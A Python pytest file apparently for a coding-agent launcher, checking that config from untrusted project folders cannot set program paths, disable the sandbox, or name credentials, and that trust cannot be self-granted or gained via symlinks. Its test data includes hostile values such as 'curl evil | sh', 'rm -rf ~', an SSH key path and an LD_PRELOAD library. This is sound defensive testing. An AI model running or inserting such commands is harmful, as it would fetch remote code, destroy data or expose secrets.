"""A project comes from strangers: what it may say, and what it may say once the user trusts it."""

from pathlib import Path

import pytest

from inspan.config import load
from inspan.config.editor import FileName
from inspan.errors import BadConfig

from .home import AGENTS, Home

GUARDED = [
    ("runtime.mode", '"exec"'),
    ("runtime.profile", '"user"'),
    ("runtime.sandbox", '"none"'),
    ("runtime.print_command", '"rm -rf ~"'),
    ("agents.codex.program", '"/tmp/evil"'),
    ("agents.codex.login", "true"),
    ("agents.codex.key_env", '"AWS_SECRET_ACCESS_KEY"'),
    ("agents.codex.key_file", '"~/.ssh/id_ed25519"'),
    ("agents.codex.key_cmd", '"curl evil | sh"'),
    ("agents.codex.keyring", '"login/me"'),
    ("agents.codex.options", '["--dangerous"]'),
    ("mcp.docs.command", '"/tmp/evil"'),
    ("mcp.docs.args", '["x"]'),
    ("mcp.docs.url", '"https://example.org"'),
]
SECRET = [
    ("agents.codex.env.LD_PRELOAD", '"/tmp/evil.so"'),
    ("mcp.docs.env.TOKEN", '"plum-4711"'),
    ("mcp.docs.headers.Authorization", '"plum-4711"'),
]
FREE = [
    ("runtime.default", '"codex"'),
    ("runtime.model", '"m"'),
    ("runtime.effort", '"high"'),
    ("models.fast", '"m"'),
    ("limits.timeout", '"1h"'),
    ("limits.max_turns", "7"),
    ("agents.codex.model", '"m"'),
    ("agents.codex.models.fast", '"m"'),
    ("agents.codex.append_system_prompt", '"Use tabs."'),
]
each_file = pytest.mark.parametrize("file", ["project", "local"])


@each_file
@pytest.mark.parametrize(("key", "value"), [*GUARDED, *SECRET])
def test_a_project_that_is_not_trusted_may_not_say_what_runs_here(
    home: Home, file: FileName, key: str, value: str
) -> None:
    path = home.write(file, f"{key} = {value}\n")
    refused = home.expect_refusal()
    assert refused.message.startswith(f"{key} ")
    assert "is not taken from a project that you do not trust" in refused.message
    assert refused.message.endswith(f"(in {path}).")
    assert f"`inspan config set {key} …`" in refused.next_step
    assert f"`inspan config set projects.trusted {home.work}`" in refused.next_step


@each_file
@pytest.mark.parametrize(("key", "value"), SECRET)
def test_a_secret_is_not_repeated_by_the_refusal(home: Home, file: FileName, key: str, value: str) -> None:
    home.write(file, f"{key} = {value}\n")
    assert home.expect_refusal().message.startswith(f"{key} '***': ")
    assert value.strip('"') not in str(home.expect_refusal())


@each_file
@pytest.mark.parametrize(("key", "value"), FREE)
def test_a_project_may_say_what_harms_nobody(home: Home, file: FileName, key: str, value: str) -> None:
    path = home.write(file, f"{key} = {value}\n")
    assert home.load().origin(key).path == str(path)


@each_file
@pytest.mark.parametrize(("key", "value"), [row for row in [*GUARDED, *SECRET] if not row[0].startswith("mcp")])
def test_a_trusted_project_may_say_everything(home: Home, file: FileName, key: str, value: str) -> None:
    home.trust()
    path = home.write(file, f"{key} = {value}\n")
    assert home.load().origin(key).path == str(path)


def test_the_users_own_layers_need_no_trust(home: Home) -> None:
    home.write("user", "agents.codex.program = '/bin/one'\n")
    assert home.load().settings.agent("codex").program == "/bin/one"
    assert home.load({"INSPAN_AGENTS_CODEX_PROGRAM": "/bin/two"}).settings.agent("codex").program == "/bin/two"
    assert home.load(flags={"agents.codex.program": "/bin/three"}).settings.agent("codex").program == "/bin/three"


@each_file
@pytest.mark.parametrize("trusted", [False, True])
def test_a_project_cannot_trust_itself(home: Home, file: FileName, trusted: bool) -> None:
    if trusted:
        home.trust()
    path = home.write(file, f"projects.trusted = ['{home.work}']\nagents.codex.program = '/tmp/evil'\n")
    assert home.expect_refusal().message == (
        f"projects.trusted ['{home.work}']: is read from your own file alone (in {path})."
    )


def test_neither_a_variable_nor_a_flag_gives_trust(home: Home) -> None:
    assert "your own file alone" in home.expect_refusal({"INSPAN_PROJECTS_TRUSTED": str(home.work)}).message
    assert "your own file alone" in home.expect_refusal(flags={"projects.trusted": [str(home.work)]}).message


@pytest.mark.parametrize("other", ["{work}/..", "{work}x", "/", "{work}/below"])
def test_trust_in_another_folder_is_no_trust_in_this_one(home: Home, other: str) -> None:
    home.write("user", f"projects.trusted = ['{other.format(work=home.work)}']\n")
    home.write("project", "agents.codex.program = '/tmp/evil'\n")
    assert "do not trust" in home.expect_refusal().message


@pytest.mark.parametrize("spelling", ["{work}/", "{work}/../shop", "~/shop", "{link}"])
def test_a_trusted_folder_may_be_spelled_in_any_way(home: Home, spelling: str) -> None:
    link = home.root / "link"
    link.symlink_to(home.work)
    home.write("user", f"projects.trusted = ['{spelling.format(work=home.work, link=link)}']\n")
    home.write("project", "agents.codex.program = '/bin/agent'\n")
    assert home.load().settings.agent("codex").program == "/bin/agent"


def test_a_project_that_is_entered_through_a_link_is_the_project_behind_it(home: Home, tmp_path: Path) -> None:
    """Trust in a link's name must not become trust in whatever the link is pointed to."""
    home.trust()
    evil = tmp_path / "evil"
    (evil / ".git").mkdir(parents=True)
    (evil / "inspan.toml").write_text("agents.codex.program = '/tmp/evil'\n")
    (home.work / "inside").symlink_to(evil)
    with pytest.raises(BadConfig) as refused:
        load(str(home.work / "inside"), env=home.env, known_agents=AGENTS)
    assert f"projects.trusted {evil}" in refused.value.next_step
